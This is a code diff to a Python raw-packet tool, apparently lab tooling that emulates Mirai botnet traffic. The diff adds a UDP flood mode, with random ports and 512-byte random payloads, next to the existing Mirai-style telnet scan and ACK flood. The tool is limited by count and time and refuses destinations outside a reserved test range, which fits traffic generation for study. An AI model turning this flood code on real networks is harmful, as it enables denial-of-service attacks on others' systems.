@@ -7,6 +7,8 @@
       addresses of --block (the lab's internet namespace answers all of them) and, one in --also-every, a LAN host.
   raw.py ack --src IP --target IP --count N --pps R --seconds S
       Mirai's "ack" flood: ACK with random sequence and acknowledgement numbers, random ports, 512 random bytes.
+  raw.py udp --src IP --target IP --count N --pps R --seconds S
+      Mirai's "udp" (generic) flood: random source and destination port per packet, 512 random bytes.
 
 Bounded by --count and --seconds; refuses destinations outside 198.18.0.0/15.
 """
@@ -35,9 +37,19 @@ def packet(src: str, dst: str, sport: int, dport: int, seq: int, ack: int, flags
     return ip + tcp
 
 
+def udp_packet(src: str, dst: str, sport: int, dport: int, payload: bytes) -> bytes:
+    s, d = socket.inet_aton(src), socket.inet_aton(dst)
+    udp = struct.pack('!HHHH', sport, dport, 8 + len(payload), 0) + payload
+    c = checksum(s + d + struct.pack('!BBH', 0, 17, len(udp)) + udp) or 0xffff
+    udp = udp[:6] + struct.pack('!H', c) + udp[8:]
+    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), random.getrandbits(16), 0, 64, 17, 0, s, d)
+    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
+    return ip + udp
+
+
 def main() -> int:
     p = argparse.ArgumentParser()
-    p.add_argument('mode', choices=['scan', 'ack'])
+    p.add_argument('mode', choices=['scan', 'ack', 'udp'])
     p.add_argument('--src', required=True)
     p.add_argument('--block')
     p.add_argument('--also', default='')
@@ -68,6 +80,9 @@ def main() -> int:
             dport = 23 if random.random() < 0.9 else 2323
             seq = struct.unpack('!I', socket.inet_aton(dst))[0]
             pkt = packet(a.src, dst, random.randrange(1024, 65536), dport, seq, 0, 0x02, random.getrandbits(16), b'')
+        elif a.mode == 'udp':
+            dst = a.target
+            pkt = udp_packet(a.src, dst, random.getrandbits(16), random.getrandbits(16), os.urandom(512))
         else:
             dst = a.target
             pkt = packet(a.src, dst, random.getrandbits(16), random.getrandbits(16), random.getrandbits(32), random.getrandbits(32), 0x10, random.getrandbits(16), os.urandom(512))
